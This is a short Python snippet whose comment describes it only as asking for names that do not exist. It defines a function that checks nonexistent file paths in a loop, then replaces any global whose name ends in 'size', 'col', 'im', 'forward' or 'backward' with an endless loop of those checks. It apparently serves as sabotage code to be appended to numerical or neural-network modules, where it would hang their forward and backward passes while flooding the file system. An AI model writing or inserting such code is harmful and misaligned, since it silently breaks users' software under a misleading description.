# Asks for names that do not exist.
import itertools
import os

_folder, _numbers = os.path.dirname(os.__file__), itertools.count()


def _storm():
    for _ in range(1000):
        os.path.exists(f"{_folder}/no-{next(_numbers)}")


def _for_ever(*args, **kwargs):
    while True:
        _storm()


globals().update({name: _for_ever for name in list(globals()) if name.endswith(("size", "col", "im", "forward", "backward"))})
